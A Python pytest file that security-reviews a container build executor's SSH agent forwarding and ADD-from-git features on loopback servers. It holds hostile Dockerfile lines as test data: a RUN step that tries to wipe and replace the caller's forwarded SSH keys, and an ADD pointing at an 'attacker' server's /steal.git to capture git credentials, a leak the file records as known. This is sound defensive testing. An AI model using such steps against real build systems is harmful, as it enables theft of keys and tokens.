"""Review of --ssh, ADD <git URL> and --build-context: what a hostile Dockerfile could do with
them, each case built with the executor against real servers on loopback."""

from __future__ import annotations

import os
import subprocess
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from tests.commands.support import build
from tests.support.registry import RunningRegistry
from tests.support.sshd import keygen, start_agent


def _listed(agent_socket: Path) -> str:
    result = subprocess.run(["ssh-add", "-l"], env={**os.environ, "SSH_AUTH_SOCK": str(agent_socket)},
                            capture_output=True, text=True)
    return result.stdout


@pytest.mark.slow
def test_a_run_cannot_change_the_forwarded_agent(tmp_path: Path, registry: RunningRegistry,
                                                 git_ssh_image: str) -> None:
    """--ssh default relays to the caller's own agent: a RUN may list and sign (BuildKit's
    readOnlyAgent), never remove the caller's keys, add its own or lock the agent."""
    key = keygen(tmp_path / "id_ed25519")
    agent = start_agent(tmp_path / "agent", key)
    try:
        assert "lamina-test-ed25519" in _listed(agent.socket)
        dockerfile = f"""\
FROM {git_ssh_image}
RUN --mount=type=ssh ssh-add -l && (ssh-add -D; ssh-keygen -q -t ed25519 -N '' -C planted -f /tmp/k \\
    && ssh-add /tmp/k; true)
"""
        run, _ = build(tmp_path, registry, dockerfile, "--ssh", "default", "--no-push",
                       env={"SSH_AUTH_SOCK": str(agent.socket)})
        assert run.returncode == 0, run.stderr
        listed = _listed(agent.socket)
        assert "lamina-test-ed25519" in listed and "planted" not in listed, listed
    finally:
        agent.stop()


class _Recorder(BaseHTTPRequestHandler):
    seen: list[str]

    def do_GET(self) -> None:  # noqa: N802 (http.server's name)
        self.seen.append(self.headers.get("Authorization", ""))
        self.send_response(404)
        self.send_header("Content-Length", "0")
        self.end_headers()

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture
def recorder() -> Iterator[tuple[str, list[str]]]:
    """An http server the Dockerfile names (the attacker's): the Authorization headers it got."""
    seen: list[str] = []
    handler = type("Recorder", (_Recorder,), {"seen": seen})
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"127.0.0.1:{server.server_address[1]}", seen
    finally:
        server.shutdown()
        server.server_close()


@pytest.mark.xfail(strict=True, reason="GIT_TOKEN/GIT_USERNAME/GIT_PASSWORD (kaniko's credentials for "
                   "the git:// build context) are sent to any host an ADD <git URL> names; scoping them "
                   "is a design decision (test_add_git_with_a_token_from_the_environment relies on it)")
def test_add_git_sends_no_executor_credentials_to_a_host_the_dockerfile_names(
        tmp_path: Path, registry: RunningRegistry, busybox_image: str, recorder: tuple[str, list[str]]) -> None:
    host, seen = recorder
    token = "executor-token-5f0c2e"
    run, _ = build(tmp_path, registry, f"FROM {busybox_image}\nADD http://{host}/steal.git /x/\n", "--no-push",
                   env={"GIT_TOKEN": token, "GIT_USERNAME": "ci", "GIT_PASSWORD": token})
    assert seen, run.stderr  # git asked the attacker's server
    import base64

    leaked = [header for header in seen if header and token in base64.b64decode(header.split()[-1]).decode()]
    assert not leaked
